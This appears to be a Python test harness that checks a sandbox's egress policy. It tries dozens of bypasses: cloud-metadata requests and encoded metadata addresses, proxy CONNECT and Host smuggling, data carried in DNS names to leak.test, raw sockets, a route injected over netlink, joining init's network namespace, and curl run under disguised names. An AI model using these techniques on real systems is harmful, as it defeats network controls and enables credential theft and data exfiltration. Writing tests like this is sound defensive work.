#!/usr/bin/env python3
"""Named attempts to reach something outside that policy does not list, from inside.

Says on one line of JSON each whether an answer came (`reached`), or nothing could be
tried here (`unavailable`); attempts whose name begins with `allowed_` are meant to get
one. The number in front is that of the case in our list of attacks. Standard library
only.
"""

import ctypes
import errno
import json
import os
import signal
import socket
import ssl
import struct
import subprocess
import sys
import time

OUTSIDE = "203.0.113.10"
GATEWAY = sys.argv[1]
PROXY = ("proxy.local", 3128)
ATTEMPTS = []


def attempt(function):
    ATTEMPTS.append((function.__name__, function))
    return function


def each(name, values, function):
    for number, value in enumerate(values):
        ATTEMPTS.append((f"{name}_{number}_{str(value)[:40]!r}", lambda value=value: function(value)))


def answered(connection, request=b"GET / HTTP/1.0\r\nHost: x\r\n\r\n"):
    """Whether a server outside answers; what our proxy says does not count."""
    with connection as c:
        c.settimeout(1.5)
        got = b""
        try:
            c.sendall(request)
            while part := c.recv(4096):
                got += part
        except OSError:
            pass
        return b"hello" in got and b"refused by nemoclaw" not in got


def get(host, port=80, name=None):
    request = f"GET / HTTP/1.0\r\nHost: {name or host}\r\n\r\n".encode()
    return answered(socket.create_connection((host, port), 1.5), request)


def curl(*words):
    done = subprocess.run(["curl", "-s", "-k", "-g", "-m", "2", *words], capture_output=True)
    return b"hello" in done.stdout


def through(line, rest=b""):
    c = socket.create_connection(PROXY, 1.5)
    c.settimeout(1.5)
    with c:
        c.sendall(line + b"\r\nHost: x\r\n\r\n" + rest)
        try:
            return c.recv(99).startswith(b"HTTP/1.1 200")
        except OSError:
            return False


# What policy lists, so that a closed network does not pass for a safe one.


@attempt
def allowed_plain():
    return get("allowed.test")


@attempt
def allowed_tls():
    context = ssl._create_unverified_context()
    plain = socket.create_connection(("allowed.test", 443), 2)
    return answered(context.wrap_socket(plain, server_hostname="allowed.test"))


@attempt
def allowed_upper_case_and_trailing_dot():
    return curl("http://ALLOWED.TEST./")


@attempt
def allowed_server_first():
    return answered(socket.create_connection(("allowed.test", 2525), 2), b"x\r\n")


@attempt
def allowed_through_connect():
    return through(b"CONNECT allowed.test:80 HTTP/1.1")


@attempt
def allowed_mapped_address():
    with socket.socket(socket.AF_INET6) as s:
        s.settimeout(2)
        s.connect(("::ffff:" + socket.gethostbyname("allowed.test"), 80))
        s.sendall(b"GET / HTTP/1.0\r\nHost: x\r\n\r\n")
        return b"hello" in s.recv(4096)


@attempt
def allowed_large():
    done = subprocess.run(["curl", "-s", "-m", "9", "http://allowed.test/size/3000000"], capture_output=True)
    return len(done.stdout) == 3000000


@attempt
def allowed_loopback_server():
    with socket.create_server(("127.0.0.1", 0)) as server, socket.create_connection(server.getsockname()) as c:
        server.accept()[0].send(b"x")
        return c.recv(1) == b"x"


# S: addresses and names that no rule opens.

each("S_metadata", ["169.254.169.254", "168.63.129.16", "[fd20:ce::254]", "192.0.0.192", "[fd00:c1::a9fe:a9fe]",
                    "[fd00:42::42]", "169.254.170.2", "metadata.google.internal", "instance-data", "meta.test"],
     lambda host: curl("-H", "Metadata-Flavor: Google", f"http://{host}/latest/meta-data/"))
each("S_encoded", ["2852039166", "0251.0376.0251.0376", "425.510.425.510", "7147006462", "[::ffff:169.254.169.254]",
                   "[::ffff:a9fe:a9fe]", "[::ffff:0:a9fe:a9fe]", "[2001:0:4136:e378:8000:63bf:5601:5601]",
                   "[64:ff9b::a9fe:a9fe]", "[2002:a9fe:a9fe::]", "[::a9fe:a9fe]", "１６９.２５４.１６９.２５４"],
     lambda host: curl(f"http://{host}/"))
each("S_internal", ["127.1", "127.127.127.127", "0.0.0.0", "[::]", "[::1]", "localhost.", "a.localhost",
                    "ip6-localhost", "loop.test", "224.0.0.1", "100.64.0.1", "198.18.0.1", "192.0.2.1", "10.99.0.1",
                    "10.99.0.10", "private.test", "172.17.0.1", "[fc00::1]", GATEWAY, "255.255.255.255"],
     lambda host: curl(f"http://{host}/"))
each("S_control_plane", ["host.containers.internal", "gateway.docker.internal", "kubernetes.default.svc", "10.96.0.1",
                         f"{GATEWAY}:22", f"{GATEWAY}:2375", f"{OUTSIDE}:6443"],
     lambda host: curl(f"https://{host}/"))
each("S_authority", [b"denied.test/.allowed.test:80", b"denied.test\0.allowed.test:80", b"*.allowed.test:80",
                     b"allowed.test.denied.test:80", b"xallowed.test:80", b"allowed.test:080", b"allowed.test:65616",
                     b"allowed.test:0", b"allowed.test:80:25", b"allowed.test: 80", b"allowed.test:22",
                     "allowed.test:８０".encode(), b"user@allowed.test:80", b"denied.test:80", b"203.0.113.10:80",
                     b"[::ffff:203.0.113.10]:80", b"allowed.test%2edenied.test:80", b"allowed.test"],
     lambda target: through(b"CONNECT " + target + b" HTTP/1.1"))
each("S_absolute", [b"http://denied.test/", b"http://allowed.test@denied.test/", b"http://denied.test:80#@allowed.test/",
                    b"http://203.0.113.10/", b"https://denied.test/", b"ftp://allowed.test/", b"http:///"],
     lambda target: through(b"GET " + target + b" HTTP/1.1"))


@attempt
def S_096_an_allowed_host_by_its_address():
    return get(OUTSIDE, 80, "allowed.test")


@attempt
def S_another_name_of_the_same_server():
    return get("denied.test", 80, "allowed.test")


@attempt
def S_097_a_redirect():
    return curl("-L", "http://allowed.test/redirect?to=http://169.254.169.254/")


# D: names.


@attempt
def D_005_a_name_that_carries_something():
    return curl(f"http://{'a1b2c3d4' * 6}.leak.test/")


def question(name):
    labels = b"".join(bytes([len(x)]) + x for x in name.split(b"."))
    return struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0) + labels + b"\0\0\1\0\1"


def datagram(payload, address, kind=socket.SOCK_DGRAM, protocol=0, family=socket.AF_INET, options=()):
    with socket.socket(family, kind, protocol) as s:
        s.settimeout(0.4)
        for level, option, value in options:
            s.setsockopt(level, option, value)
        s.connect(address)
        s.send(payload)
        got = s.recv(999)
        return got != b"" and b"\x0b\x16" not in got


each("D_021_to_a_resolver_outside", ["203.0.113.53", "192.0.2.53", "1.1.1.1"],
     lambda server: datagram(question(b"leaked.test"), (server, 53)))
each("D_other_ports", [(OUTSIDE, 853), ("224.0.0.251", 5353), (OUTSIDE, 5353), (OUTSIDE, 123), (OUTSIDE, 443), (OUTSIDE, 9999)],
     lambda address: datagram(question(b"leaked.test"), address))


@attempt
def D_033_a_virtual_address_nobody_asked_for():
    return get("11.22.99.99", 80, "allowed.test")


@attempt
def D_034_the_address_of_one_name_and_the_hello_of_another():
    context = ssl._create_unverified_context()
    plain = socket.create_connection(("allowed.test", 443), 2)
    return answered(context.wrap_socket(plain, server_hostname="denied.test"))


@attempt
def D_038_search_domains():
    done = subprocess.run(["curl", "-s", "-m", "2", "http://allowed.test/"], capture_output=True,
                          env={**os.environ, "RES_OPTIONS": "ndots:15", "LOCALDOMAIN": "denied.test"})
    return b"hello from allowed.test.denied" in done.stdout


# N: round the proxy.


def raw(family, kind, protocol, address=(OUTSIDE, 0), payload=b"\x45\0\0\x1c" + bytes(24)):
    with socket.socket(family, kind, protocol) as s:
        s.settimeout(0.4)
        s.sendto(payload, address)
        return s.recv(99) != b""


each("N_001_raw", [(socket.SOCK_RAW, 255), (socket.SOCK_RAW, 1), (socket.SOCK_RAW, 6), (socket.SOCK_RAW, 17),
                   (socket.SOCK_DGRAM, 1), (socket.SOCK_DGRAM, 136), (socket.SOCK_SEQPACKET, 132), (socket.SOCK_DCCP if hasattr(socket, "SOCK_DCCP") else 6, 33)],
     lambda pair: raw(socket.AF_INET, *pair))
each("N_009_families", [x for x in range(1, 46) if x not in (1, 2, 10, 16)],
     lambda family: bool(socket.socket(family, socket.SOCK_DGRAM)))


@attempt
def N_002_packet():
    with socket.socket(17, socket.SOCK_RAW, socket.htons(3)) as s:
        s.bind(("eth0", 0))
        s.send(b"\xff" * 6 + bytes(6) + b"\x08\0" + bytes(40))
        return True


def stream(options=(), protocol=0, address=(OUTSIDE, 80), flags=0):
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM, protocol) as s:
        s.settimeout(1)
        for level, option, value in options:
            s.setsockopt(level, option, value)
        payload = b"GET / HTTP/1.0\r\nHost: x\r\n\r\n"
        if flags:
            s.sendto(payload, flags, address)
        else:
            s.connect(address)
            s.sendall(payload)
        got = b""
        try:
            while part := s.recv(4096):
                got += part
        except OSError:
            pass
        return b"hello" in got and b"refused by nemoclaw" not in got


MARK = struct.pack("I", 0x6E656D6F)
each("N_018_options", [(1, 36, MARK), (1, 25, b"eth0\0"), (0, 19, struct.pack("I", 1)), (0, 50, struct.pack(">I", 2)),
                       (1, 25, b"lo\0"), (0, 4, b"\x83\x07\x04\xcb\0\x71\x0a\0"), (0, 15, struct.pack("I", 1)), (1, 12, struct.pack("I", 6))],
     lambda option: stream([option]))
each("N_018_options_of_datagrams", [(1, 36, MARK), (1, 25, b"eth0\0"), (0, 50, struct.pack(">I", 2)), (1, 6, struct.pack("I", 1))],
     lambda option: datagram(b"x", (OUTSIDE, 9999), options=[option]))
each("N_006_protocols", [262, 132, 33], lambda protocol: stream(protocol=protocol))


@attempt
def I_039_data_in_the_first_packet():
    return stream(flags=0x20000000)


@attempt
def N_a_source_address_of_another():
    with socket.socket() as s:
        s.settimeout(1)
        s.setsockopt(0, 24, 1)
        s.bind(("127.0.0.1", 0))
        s.connect((OUTSIDE, 80))
        s.sendall(b"GET / HTTP/1.0\r\n\r\n")
        return b"hello from" in s.recv(4096)


@attempt
def N_019_the_capture_port_itself():
    return get("127.0.0.1", 10080)


@attempt
def N_the_resolver_s_port_itself():
    return datagram(question(b"leaked.test"), ("127.0.0.1", 10053))


@attempt
def N_a_multicast_group():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(0.4)
        s.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, socket.inet_aton("239.1.2.3") + bytes(4))
        s.sendto(b"x", ("239.1.2.3", 9))
        return s.recv(9) != b""


@attempt
def N_broadcast():
    return datagram(b"x", ("255.255.255.255", 9), options=[(1, 6, struct.pack("I", 1))])


@attempt
def N_010_io_uring():
    libc = ctypes.CDLL(None, use_errno=True)
    return libc.syscall(425, 8, ctypes.create_string_buffer(256)) >= 0


@attempt
def N_020_another_namespace():
    libc = ctypes.CDLL(None, use_errno=True)
    return libc.unshare(0x10000000 | 0x40000000) == 0


@attempt
def N_021_the_namespace_of_init():
    libc = ctypes.CDLL(None, use_errno=True)
    return libc.setns(os.open("/proc/1/ns/net", os.O_RDONLY), 0x40000000) == 0


@attempt
def N_008_another_route():
    with socket.socket(16, socket.SOCK_RAW, 0) as s:
        # RTM_NEWROUTE with NLM_F_REQUEST | NLM_F_ACK | NLM_F_CREATE.
        body = struct.pack("BBBBBBBBI", 2, 0, 0, 0, 254, 3, 253, 1, 0)
        s.send(struct.pack("IHHII", 16 + len(body), 24, 0x405, 1, 0) + body)
        answer = s.recv(999)
        return struct.unpack_from("i", answer, 16)[0] not in (-errno.EPERM, -errno.EACCES)


@attempt
def N_022_a_tunnel_device():
    return os.open("/dev/net/tun", os.O_RDWR) >= 0


# I: programs that are not listed.


@attempt
def I_002_gone_before_anybody_looks():
    if os.fork() == 0:
        s = socket.create_connection(("plain.test", 80), 1)
        s.sendall(b"GET /gone HTTP/1.0\r\nHost: plain.test\r\n\r\n")
        os._exit(0)
    os.wait()
    time.sleep(0.3)
    return False


def as_program(path, *words):
    done = subprocess.run([path, *words, "-s", "-m", "2", "http://plain.test/"], capture_output=True)
    return b"hello" in done.stdout


@attempt
def I_017_a_link_is_what_it_leads_to():
    subprocess.run(["cp", "/usr/bin/curl", "/tmp/own"], check=True)
    os.symlink("/tmp/own", "/tmp/curl")
    return as_program("/tmp/curl")


@attempt
def I_011_another_name():
    return as_program("/bin/sh", "-c", "exec -a /usr/bin/curl /tmp/own -s -m 2 http://plain.test/", "sh") or (
        b"hello" in subprocess.run(["/usr/bin/curl", "-s", "-m", "2", "http://plain.test/"], executable="/tmp/own", capture_output=True).stdout)


@attempt
def I_021_a_path_that_breaks_lines():
    path = "/tmp/a\n/usr/bin/curl"
    os.makedirs(os.path.dirname(path), exist_ok=True)
    subprocess.run(["cp", "/usr/bin/curl", path], check=True)
    return as_program(path)


@attempt
def I_022_the_loader():
    return as_program("/lib64/ld-linux-x86-64.so.2", "/tmp/own")


@attempt
def I_018_a_file_without_a_name():
    fd = os.memfd_create("/usr/bin/curl")
    with open("/usr/bin/curl", "rb") as file:
        os.write(fd, file.read())
    return as_program(f"/proc/self/fd/{fd}")


@attempt
def I_deleted():
    subprocess.run(["cp", "/usr/bin/curl", "/tmp/gone"], check=True)
    child = subprocess.Popen(["/tmp/gone", "-s", "-m", "3", "-K", "-"], stdin=subprocess.PIPE, stdout=subprocess.PIPE)
    os.unlink("/tmp/gone")
    return b"hello" in child.communicate(b"url = http://plain.test/\n")[0]


# X: too much.


@attempt
def X_016_many_to_where_nobody_answers():
    held = []
    for _ in range(300):
        s = socket.socket()
        s.setblocking(False)
        s.connect_ex(("203.0.113.200", 80))
        held.append(s)
    time.sleep(0.3)
    return False


@attempt
def X_allowed_traffic_goes_on():
    return not get("allowed.test")


def main():
    signal.signal(signal.SIGPIPE, signal.SIG_IGN)
    for name, function in ATTEMPTS:
        try:
            outcome = "reached" if function() else "refused"
        except PermissionError:
            outcome = "refused"
        except OSError as error:
            gone = error.errno in (errno.ENOENT, errno.ENODEV, errno.EAFNOSUPPORT, errno.EPROTONOSUPPORT, errno.ESOCKTNOSUPPORT)
            outcome = "unavailable" if gone else "refused"
        except Exception as error:
            outcome = f"error: {error!r}"
        print(json.dumps({"name": name, "outcome": outcome}), flush=True)


main()
